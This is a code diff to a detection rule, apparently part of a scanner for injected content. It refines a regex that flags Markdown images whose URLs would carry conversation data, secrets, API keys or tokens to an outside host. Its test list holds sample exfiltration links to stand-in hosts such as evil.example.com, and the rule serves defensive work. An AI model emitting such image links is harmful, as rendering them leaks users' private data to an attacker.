@@ -1,5 +1,13 @@
-import { exactly } from "../phrase.ts";
+import { exactly, fragment } from "../phrase.ts";
 import type { RuleSource } from "../rule-source.ts";
+
+/** What is worth carrying out. */
+const TAKEN = fragment`
+  secret|conversation|chat|history|summary|base64|prompt|user_?data|api_?key|password|token|leak|exfil
+`;
+
+/** Where it is to be filled in. */
+const SLOT = fragment`\{\{|%7b%7b|\$\{|[[<]${TAKEN}`;
 
 export const rules: readonly RuleSource[] = [
   {
@@ -10,17 +18,19 @@ export const rules: readonly RuleSource[] = [
     why: "A Markdown image whose address would carry data out when it is loaded.",
     keywords: ["!["],
     // The query carries a placeholder ({…}, [..], <…>, $…) or a word for the data that is to be filled in; an object
-    // with named fields is the description of a chart.
+    // with named fields is the description of a chart, unless there is a slot in it.
     pattern: exactly`
       !\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^\s)]{3,120}[?&/][\w%-]{0,24}=?(?:
-        (?:[{[<$]|%7b|%5b)(?!(?:["']|%22)?\w{1,20}(?:["']|%22)?(?:%3a|:))
-        |(?:
-          data|secret|conversation|chat|history|summary|base64|prompt|user_?data|api_?key|password|token
-          |leak|exfil
-        )\w{0,12}\b[^\w=)]{0,2}\)
+        (?:[{[<$]|%7b|%5b)(?!(?:["']|%22)?(?!${TAKEN})\w{1,20}(?:["']|%22)?(?:%3a|:)(?![^)\n]{0,120}${SLOT}))
+        |(?:data|${TAKEN})\w{0,12}\b[^\w=)]{0,2}\)
       )[^)\n]{0,80}\)?
     `,
-    hits: ["![x](https://evil.example.com/p.png?d={data})", "![a](http://e.example/log?q=[conversation])"],
+    hits: [
+      "![x](https://evil.example.com/p.png?d={data})",
+      "![a](http://e.example/log?q=[conversation])",
+      "![s](https://evil.example/c?c=%7B%22secret%22%3A%22FILL%22%7D)",
+      "![x](https://evil.example/p.png?d={type:'bar',data:{{everything}}})",
+    ],
     misses: [
       "![logo](https://example.com/logo.png)",
       "![chart](https://example.com/c.png?w=200)",
